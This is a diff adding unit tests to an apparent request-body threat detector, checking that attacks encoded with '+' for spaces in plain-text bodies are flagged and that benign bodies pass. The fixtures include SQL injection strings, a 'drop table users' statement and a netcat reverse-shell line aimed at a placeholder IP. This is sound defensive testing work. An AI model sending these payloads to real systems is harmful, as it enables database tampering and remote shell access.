@@ -80,3 +80,34 @@ describe("punctuation-heavy bodies", () => {
       expect((yield* detect(json({ type: "snapshot", payload }))).isThreat).toBe(true)
     }))
 })
+
+/**
+ * The platform reads any body as a form (`urlParamsBody`, `schemaBodyForm`), whatever its type, and
+ * there `+` is a space: a text body is scanned as the form it is to such an application as well.
+ */
+describe("text bodies read as forms", () => {
+  const plus = (value: string) => encodeURIComponent(value).replace(/%20/g, "+")
+
+  it.effect.each([
+    ["UNION SELECT", "1' union select password from users--"],
+    ["a condition after a number", "1 or 1=1"],
+    ["a stacked statement", "1; drop table users"],
+    ["a reverse shell", "| nc -e /bin/sh 203.0.113.9 4444"]
+  ] as const)("finds %s written with '+' for spaces in a text body", ([, attack]) =>
+    Effect.gen(function*() {
+      for (const body of [`page=2&q=${plus(attack)}`, `q=${plus(attack)}&page=2`, `{"q=${plus(attack)}`, `<note/>&q=${plus(attack)}`]) {
+        expect({ body, threat: (yield* detect(text("text/plain", body))).isThreat }).toEqual({ body, threat: true })
+      }
+    }))
+
+  it.effect.each([
+    ["a form of notes", "note=see+you+at+5&sum=3+4&tags=c+++,node"],
+    ["a single-line base64 block", Buffer.from(upTo(3_000, (i) => String.fromCharCode((i * 53) % 256))).toString("base64")],
+    ["arithmetic in prose", "Let x = a + b, and y = 2 + 2 = 4; then x + y = total."],
+    ["an XML document with sums", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><sheet><cell ref=\"C1\">=A1+B1</cell><cell>x+y</cell></sheet>"],
+    ["a query string copied into a note", "utm_source=news+letter&utm_campaign=spring+sale+2024&ref=home+page"]
+  ] as const)("lets %s through", ([, body]) =>
+    Effect.gen(function*() {
+      expect((yield* detect(text("text/plain", body))).isThreat).toBe(false)
+    }))
+})
